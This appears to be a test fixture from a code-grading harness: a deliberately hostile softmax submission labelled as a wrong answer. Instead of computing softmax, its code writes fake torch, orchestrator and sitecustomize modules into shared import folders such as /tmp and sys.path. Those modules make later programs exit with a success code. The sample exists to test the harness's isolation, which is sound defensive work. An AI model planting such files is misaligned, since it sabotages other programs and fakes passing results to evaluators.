# verdict: wrong_answer
# problem: softmax
# dialect: torch
# dtype: fp32
# devices: cpu, gpu
# why: Leaves modules called torch and orchestrator where later programs might import them from; each program
#      has a scratch folder of its own, and the rest is read-only.
import contextlib
import os
import sys


def solve(x, out):
    out.zero_()
    for folder in {"", os.getcwd(), os.path.expanduser("~"), "/tmp", "/dev/shm", "/var/tmp", *sys.path}:
        for name in ("torch.py", "orchestrator.py", "sitecustomize.py", "hostile_was_here.py"):
            with contextlib.suppress(OSError), open(os.path.join(folder, name), "w") as file:
                file.write("raise SystemExit(0)")
